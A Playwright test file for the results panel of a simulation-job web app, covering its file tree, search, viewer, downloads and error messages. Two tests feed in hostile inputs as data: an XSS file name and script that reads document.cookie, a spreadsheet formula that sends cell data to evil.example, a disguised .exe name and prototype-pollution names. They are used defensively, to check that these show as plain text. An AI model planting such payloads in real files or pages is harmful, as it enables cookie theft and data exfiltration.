/** The results of a job: their tree, the viewer, the downloads, and what is told when there are none. */
import { readFileSync } from "node:fs";

import type { Download, Locator, Page } from "@playwright/test";

import { foreignMarkup, reorderedTexts } from "../../fixtures/foreign-markup.js";
import type { ResultsReply } from "../../fixtures/sandbox-control.js";
import { type ControlledServer, expect, test } from "../../fixtures/test.js";
import type { Results } from "../../pages/job-panel.js";
import type { JobsPage } from "../../pages/jobs-page.js";

/** Opens the page with the panel of a job, and returns its results. */
async function openResults(jobsPage: JobsPage, job: number, url = ""): Promise<Results> {
  await jobsPage.open(`${url}?job=${job}`);
  const { results } = jobsPage.panel(job);
  await expect(results.root).toBeVisible();
  return results;
}

/** Returns the names of the files of a list, with the folders in it. */
const names = (list: Locator): Locator => list.locator(".result-name");

/** Downloads by a click, and returns the first download. */
async function download(page: Page, link: Locator): Promise<Download> {
  const [started] = await Promise.all([page.waitForEvent("download"), link.click()]);
  return started;
}

/** Returns the bytes that the browser has saved. */
async function saved(started: Download): Promise<Buffer> {
  expect(await started.failure()).toBeNull();
  return readFileSync(await started.path());
}

const REFUSED = "JESS says: “Job 9000001 is not accessible to user user@example.com”";
const gone = (what: string): string => `The ${what} is not there. JESS may have removed the results of this job.`;
const unknown = (what: string): string =>
  `The reply is not the ${what} that was requested, or has a form that this page does not know.`;

/** The names that a server does not forward to JESS. */
const NOT_FORWARDED: Record<string, string[]> = {
  gateway: ["slash%2Fin the name.csv"],
  nginx: ["slash%2Fin the name.csv", "semicolon;.csv"],
};

test.describe("the tree of results with folders", () => {
  for (const [format, job] of [
    [2020, 12_240],
    [2021, 701_543],
  ] as const) {
    test(`in the format of ${format}`, async ({ jobsPage }) => {
      const results = await openResults(jobsPage, job);
      // The older format has no times.
      const isOlder = format === 2020;
      await expect(names(results.tree)).toHaveText([
        "console.log",
        "eplusout.dxf",
        "plan.dxf",
        "plan.dxf",
        "eplusout.eio",
        "eplusout.end",
        "eplusout.err",
        "eplustbl.csv",
        "eplustbl.htm",
        "in.idf",
        "job.done!",
      ]);
      const folders = results.tree.locator("summary");
      await expect(folders).toHaveText([
        "drawings3 files, 195 B",
        "levels2 files, 130 B",
        "first1 file, 65 B",
        "ground1 file, 65 B",
        "scratch0 files, 0 B",
      ]);
      await expect(results.summary).toHaveText(isOlder ? "11 files, 27.7 kB" : /^11 files, /);
      await expect(results.tree.getByRole("time")).toHaveCount(isOlder ? 0 : 11);
      // What EnergyPlus has not written as text is not viewed.
      await expect(results.file("job.done!")).toHaveCount(0);
      await folders.first().click();
      await expect(results.file("eplusout.dxf")).toBeHidden();
    });
  }
});

test("a search finds files in any folder", async ({ jobsPage }) => {
  const results = await openResults(jobsPage, 12_240);
  await results.search.fill("Levels/");
  await expect(results.summary).toHaveText("2 of 11 files found");
  await expect(names(results.found)).toHaveText([
    "drawings/levels/first/plan.dxf",
    "drawings/levels/ground/plan.dxf",
  ]);
  await expect(results.tree).toBeHidden();
  await results.search.fill("nothing");
  await expect(results.summary).toHaveText("0 of 11 files found");
  await results.search.fill("");
  await expect(results.tree).toBeVisible();
});

test("a folder of 5,000 files is closed, and shows 200 of them at first", async ({ jobsPage }) => {
  const results = await openResults(jobsPage, 701_622);
  await expect(results.file("hour-0001.csv")).toHaveCount(0);
  await results.tree.getByText("illuminance", { exact: true }).click();
  const files = results.root.getByRole("button", { name: /^hour-\d+\.csv$/ });
  await expect(files).toHaveCount(200);
  await results.root.getByRole("button", { name: "Show 200 more" }).click();
  await expect(files).toHaveCount(400);
  await results.search.fill("hour-4999");
  await expect(names(results.found)).toHaveText(["illuminance/hour-4999.csv"]);
});

test("the messages of an error file are counted and gone through, and a text is searched", async ({ jobsPage }) => {
  const results = await openResults(jobsPage, 701_649);
  const { viewer } = results;
  await results.file("eplusout.err").click();
  await expect(viewer.note).toHaveText("18 lines");
  await expect(viewer.messages.getByRole("button")).toHaveText(["2 severe", "2 warnings"]);
  const line = viewer.target.locator(".line-number");
  for (const [button, number, text] of [
    ["2 severe", "11", /^ {3}\*\* Severe {2}\*\* Temperature \(high\) out of bounds/],
    ["2 severe", "13", /^ {3}\*\* Severe {2}\*\* Temperature \(high\) out of bounds/],
    ["2 severe", "11", /^ {3}\*\* Severe {2}\*\* Temperature \(high\) out of bounds/],
    ["2 warnings", "2", /^ {3}\*\* Warning \*\* Weather file location/],
    ["2 warnings", "5", /^ {3}\*\* Warning \*\* CheckUsedConstructions/],
  ] as const) {
    await viewer.messages.getByRole("button", { name: button }).click();
    await expect(line).toHaveAttribute("data-number", number);
    expect(await viewer.target.locator(".line-text").textContent()).toMatch(text);
  }
  await viewer.search.fill("LOCATION");
  await expect(viewer.matches).toHaveText("3 lines");
  await viewer.previousMatch.click();
  await expect(viewer.matches).toHaveText("3 of 3 lines");
  await viewer.nextMatch.click();
  await expect(viewer.matches).toHaveText("1 of 3 lines");
  await expect(line).toHaveAttribute("data-number", "2");
  await viewer.search.fill("no such text");
  await expect(viewer.matches).toHaveText("Not found");
});

test("a message that a button goes to is in view", async ({ jobsPage }) => {
  const { results } = jobsPage.panel(701_649);
  await jobsPage.open("?job=701649");
  await results.file("eplusout.err").click();
  await results.viewer.messages.getByRole("button", { name: "2 severe" }).click();
  await expect(results.viewer.target).toBeInViewport();
});

test("a fatal message is marked in a file of several runs", async ({ jobsPage }) => {
  const results = await openResults(jobsPage, 701_713);
  const { viewer } = results;
  await results.file("eplusout.err").click();
  await viewer.messages.getByRole("button", { name: "1 fatal" }).click();
  expect(await viewer.target.locator(".line-text").textContent()).toContain("**  Fatal  **");
});

test("a file of 30 MB is viewed part by part, up to a limit, with only the lines in view in the page", async ({
  jobsPage,
}) => {
  const results = await openResults(jobsPage, 12_238);
  const { viewer } = results;
  await results.file("eplusout.eso").click();
  for (const lines of ["89,598", "179,231", "268,877"]) {
    await expect(viewer.note).toHaveText(`The first ${lines} lines`);
    await viewer.loadMore.click();
  }
  await expect(viewer.note).toHaveText("The first 358,508 lines. Download the file to see the rest.");
  await expect(viewer.loadMore).toHaveCount(0);
  await viewer.text.evaluate((text) => text.scrollTo(0, text.scrollHeight));
  await expect(viewer.text.locator('[data-number="358508"]')).toBeVisible();
  expect((await viewer.lines()).length).toBeLessThan(200);
});

test.describe("a download has the bytes that the service sends", () => {
  /** Returns the bytes of a file, or of an archive, as the service itself sends them. */
  const sent = async (sandbox: string, session: string, path: string): Promise<Buffer> => {
    const headers = { cookie: `session_token=${session}` };
    const reply = await fetch(`${sandbox}/jess_web/api/job/file/${path}`, { headers });
    expect(reply.status).toBe(200);
    return Buffer.from(await reply.arrayBuffer());
  };

  test("of one file, also from the viewer, and of all as an archive", async ({ jobsPage, page, server, session }) => {
    const results = await openResults(jobsPage, 12_240);
    const one = await download(page, results.download("eplusout.err"));
    expect(one.suggestedFilename()).toBe("eplusout.err");
    const bytes = await sent(server.sandbox!, session, "12240/eplusout.err");
    expect((await saved(one)).equals(bytes)).toBe(true);

    const archive = await download(page, results.downloadAll);
    expect(archive.suggestedFilename()).toMatch(/12240.*\.zip$/);
    expect((await saved(archive)).equals(await sent(server.sandbox!, session, "12240"))).toBe(true);

    await results.file("eplusout.err").click();
    expect((await saved(await download(page, results.download("eplusout.err")))).equals(bytes)).toBe(true);
  });

  test("of chosen files", async ({ jobsPage, page, server, session }) => {
    const downloads: Download[] = [];
    page.on("download", (started) => downloads.push(started));
    const results = await openResults(jobsPage, 12_240);
    const paths = ["in.idf", "drawings/eplusout.dxf", "job.done!"];
    for (const path of paths) await results.choose(path).check();
    await results.root.getByRole("button", { name: "Download 3 chosen files" }).click();
    await expect.poll(() => downloads.length).toBe(3);
    for (const [index, path] of paths.entries()) {
      const bytes = await sent(server.sandbox!, session, `12240/${path}`);
      expect((await saved(downloads[index]!)).equals(bytes), path).toBe(true);
    }
    await expect(results.root.getByText(/^Downloading/)).toHaveCount(0);
  });

  test("of the files with some extensions", async ({ jobsPage, page, server, session }) => {
    const results = await openResults(jobsPage, 12_240);
    await results.root.getByText("By extension").click();
    await results.root.getByRole("checkbox", { name: "dxf (3 files, 195 B)" }).check();
    await results.root.getByRole("checkbox", { name: "csv (1 file, 1.1 kB)" }).check();
    const archive = await download(page, results.root.getByRole("link", { name: "Download dxf, csv (zip)" }));
    expect((await saved(archive)).equals(await sent(server.sandbox!, session, "12240?ext=dxf,csv"))).toBe(true);
  });

  test("of a file of 30 MB", async ({ jobsPage, page, server, session }) => {
    const results = await openResults(jobsPage, 12_238);
    const bytes = await sent(server.sandbox!, session, "12238/eplusout.eso");
    expect(bytes.length).toBe(30_517_519);
    expect((await saved(await download(page, results.download("eplusout.eso")))).equals(bytes)).toBe(true);
  });

  test("of files with hostile names", async ({ jobsPage, page, server, serverKind, session }) => {
    const results = await openResults(jobsPage, 701_593);
    for (const [path, name] of [
      ['a "quoted" \'name\'.csv', 'a "quoted" \'name\'.csv'],
      ["<b>bold<img src=x onerror=alert(1)>.csv", "<b>bold<img src=x onerror=alert(1)>.csv"],
      ["100 %.csv", "100 %.csv"],
      ["query?ext=csv&a=b#fragment.csv", "query?ext=csv&a=b#fragment.csv"],
      ["semicolon;.csv", "semicolon;.csv"],
      ["Übersicht 通風 🏢.csv", "Übersicht 通風 🏢.csv"],
      ["\u202evsc.exe", "\u202evsc.exe"],
      ["__proto__", "__proto__"],
      ["constructor/toString.csv", "toString.csv"],
    ] as const) {
      if (NOT_FORWARDED[serverKind]!.includes(name)) continue;
      const encoded = path.split("/").map(encodeURIComponent).join("/");
      const bytes = await sent(server.sandbox!, session, `701593/${encoded}`);
      expect((await saved(await download(page, results.download(path)))).equals(bytes), path).toBe(true);
    }
  });
});

test("a name that something on the way could take for a path is not forwarded, which is told", async ({
  jobsPage,
  serverKind,
  browserErrors,
}) => {
  browserErrors.allow(/a status of 404/);
  const results = await openResults(jobsPage, 701_593);
  for (const [index, name] of NOT_FORWARDED[serverKind]!.entries()) {
    await results.download(name).click();
    await expect(results.alert).toHaveText(Array<string>(index + 1).fill(gone("file")));
  }
});

test("a csv file is a table that is sorted by a click, and its text on demand", async ({ jobsPage }) => {
  const results = await openResults(jobsPage, 701_637);
  await results.file("SimJobIndex.csv").click();
  const table = results.root.getByRole("table", { name: "Table of the file" });
  const column = table.getByRole("columnheader", { name: "@@glazing@@" });
  await expect(table).toHaveAttribute("aria-rowcount", "21");
  const cells = async (): Promise<number[]> =>
    (await table.getByRole("row").locator("> :nth-child(5)").allTextContents()).slice(1).map(Number);
  const before = await cells();
  expect(before).toHaveLength(20);
  await column.getByRole("button").click();
  await expect(column).toHaveAttribute("aria-sort", "ascending");
  expect(await cells()).toEqual(before.toSorted((one, other) => one - other));
  await column.getByRole("button").click();
  await expect(column).toHaveAttribute("aria-sort", "descending");
  await column.getByRole("button").click();
  await expect(column).not.toHaveAttribute("aria-sort");
  expect(await cells()).toEqual(before);
  await results.root.getByRole("button", { name: "Table" }).click();
  await expect.poll(async () => (await results.viewer.lines())[0]).toBe(
    "#,Job_ID,WeatherFile,ModelFile,@@glazing@@,@@overhang@@,@@uwall@@",
  );
});

test("hostile names and contents are shown as text", async ({ jobsPage, page, server }) => {
  const external: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname !== new URL(server.url).hostname) external.push(request.url());
  });
  const results = await openResults(jobsPage, 701_593);
  for (const name of ["<b>bold<img src=x onerror=alert(1)>.csv", "\u202evsc.exe", "__proto__", "toString.csv"]) {
    await expect(results.tree.getByText(name, { exact: true })).toBeVisible();
  }
  // A path that leads out of the folder is not listed.
  await expect(results.tree.getByText("outside.csv")).toHaveCount(0);
  await expect(results.tree.getByText("..", { exact: true })).toHaveCount(0);
  expect(await reorderedTexts(results.tree)).toEqual([]);
  for (const [name, text] of [
    ["report.htm", "<html><head><title>Report</title><script>alert(document.cookie)</script>"],
    ["formulas.csv", "=HYPERLINK(\"//evil.example/?\"&A1),1"],
    ["messages.err", "   ** Warning ** <b>EnergyPlus Completed Successfully-- 0 Warning; 0 Severe Errors</b>"],
  ] as const) {
    await results.file(name).click();
    if (name.endsWith(".csv")) {
      await expect(results.root.getByRole("cell", { name: '=HYPERLINK("//evil.example/?"&A1)', exact: true })).toBeVisible();
      await results.root.getByRole("button", { name: "Table" }).click();
    }
    await expect.poll(() => results.viewer.lines()).toContain(text);
    expect(await foreignMarkup(page)).toEqual([]);
    await results.viewer.allFiles.click();
  }
  await expect(page).toHaveTitle("JESS Jobs");
  expect(external).toEqual([]);
});

/** Starts a sandbox with one finished job, and counts the files that the browser saves. */
async function startWithJob(
  startControlled: (options: { jobs: number }) => Promise<ControlledServer>,
  page: Page,
): Promise<{ server: ControlledServer; job: number; files: () => number }> {
  let files = 0;
  page.on("download", () => (files += 1));
  const server = await startControlled({ jobs: 0 });
  await server.control.freeze();
  const job = await server.control.submit({ secondsAgo: 3600, results: "folders" });
  return { server, job, files: () => files };
}

/** What is told of the list, of a file and of an archive. */
interface Words {
  list?: string;
  file?: string;
  archive: string;
}

const FAILED: Record<string, string> = {
  gateway:
    "JESS is not available at the moment. “JESS failed with “500 Internal Server Error”. Try again in a moment.” " +
    "The server responded with error 502.",
  nginx:
    "JESS is not available at the moment. “JESS failed with “500”. Try again in a moment.” " +
    "The server responded with error 502.",
};

/** The gateway does not forward a web page in place of data. */
const WEB_PAGE =
  "JESS is not available at the moment. “JESS answered with a web page instead of data. Check the address of JESS that " +
  "this server uses.” The server responded with error 502.";

const REPLIES: Record<ResultsReply, (serverKind: string) => Words> = {
  refused: () => ({
    list: `JESS does not give out the list of results. ${REFUSED}`,
    file: `JESS does not give out the file. ${REFUSED}`,
    archive: `JESS does not give out the archive. ${REFUSED}`,
  }),
  missing: () => ({ list: gone("list of results"), file: gone("file"), archive: gone("archive") }),
  html: (serverKind) => ({
    list: serverKind === "gateway" ? WEB_PAGE : unknown("list of results"),
    file: unknown("file"),
    archive: unknown("archive"),
  }),
  error: (serverKind) => ({ list: FAILED[serverKind], file: FAILED[serverKind], archive: FAILED[serverKind]! }),
  // The list and a file have nothing, without an error.
  empty: () => ({ archive: "The archive would be empty." }),
  unknown_shape: () => ({ list: unknown("list of results"), archive: unknown("archive") }),
};

test.describe("in place of the results", () => {
  test.beforeEach(({ browserErrors }) => browserErrors.allow(/a status of (401|404|416|502)/, /could not be/));

  for (const reply of Object.keys(REPLIES) as ResultsReply[]) {
    test(`the reply “${reply}” is told, and nothing is saved`, async ({
      jobsPage,
      page,
      serverKind,
      startControlled,
    }) => {
      const { list, file, archive } = REPLIES[reply](serverKind);
      const { server, job, files } = await startWithJob(startControlled, page);
      await server.control.replyToResults(job, reply);
      const results = await openResults(jobsPage, job, server.url);
      if (list === undefined) {
        await expect(results.root).toContainText("This job has no result files.");
        await server.control.replyToResults(job, null);
        await page.reload();
      } else {
        await expect(results.alert).toContainText(list);
        await server.control.replyToResults(job, null);
        await results.tryAgain.click();
      }
      await expect(results.file("eplusout.err")).toBeVisible();

      await server.control.replyToResults(job, reply);
      await results.downloadAll.click();
      await expect(results.alert).toHaveText(archive);
      if (file !== undefined) {
        await results.download("in.idf").click();
        await expect(results.alert).toHaveText([archive, file]);
        await results.choose("in.idf").check();
        await results.root.getByRole("button", { name: "Download 1 chosen file" }).click();
        await expect(results.root).toContainText(`in.idf: ${file}`);
        await results.file("eplusout.err").click();
        await expect(results.alert).toContainText(file);
        await server.control.replyToResults(job, null);
        await results.tryAgain.click();
        await expect(results.viewer.text).toContainText("EnergyPlus");
      }
      expect(files()).toBe(0);
    });
  }

  test("a refusal of a further part of a file is told", async ({ jobsPage, page, startControlled }) => {
    const { server } = await startWithJob(startControlled, page);
    const job = await server.control.submit({ secondsAgo: 3600, results: "long_series" });
    const results = await openResults(jobsPage, job, server.url);
    const { viewer } = results;
    await results.file("eplusout.eso").click();
    await expect(viewer.loadMore).toBeVisible();
    await server.control.replyToResults(job, "refused");
    await viewer.loadMore.click();
    await expect(results.alert).toContainText(`JESS does not give out the file. JESS says: “Job ${job} is not`);
  });

  const SIGNED_OUT = "You are signed out. Sign in to see the results.";

  test("the end of the session is told in place of the list", async ({ jobsPage, page, startControlled }) => {
    const { server, job } = await startWithJob(startControlled, page);
    await jobsPage.open(server.url);
    await expect(jobsPage.table.numbers).toHaveText([String(job)]);
    await server.control.endSessions();
    await jobsPage.table.opener(job).click();
    await expect(jobsPage.panel(job).results.alert).toContainText(SIGNED_OUT);
  });

  test("the end of the session is told in place of a download or a text, and nothing is saved", async ({
    jobsPage,
    page,
    startControlled,
  }) => {
    const { server, job, files } = await startWithJob(startControlled, page);
    const results = await openResults(jobsPage, job, server.url);
    await results.choose("in.idf").check();
    await results.root.getByText("By extension").click();
    await results.root.getByRole("checkbox", { name: /^csv/ }).check();
    await server.control.endSessions();
    for (const link of [
      results.download("eplusout.err"),
      results.downloadAll,
      results.root.getByRole("link", { name: "Download csv (zip)" }),
    ]) {
      const before = await results.alert.count();
      await link.click();
      await expect(results.alert).toHaveText(Array<string>(before + 1).fill(SIGNED_OUT));
    }
    await results.root.getByRole("button", { name: "Download 1 chosen file" }).click();
    await expect(results.root).toContainText(`in.idf: ${SIGNED_OUT}`);
    await results.file("eplusout.err").click();
    await expect(results.alert).toContainText(SIGNED_OUT);
    expect(files()).toBe(0);
  });
});
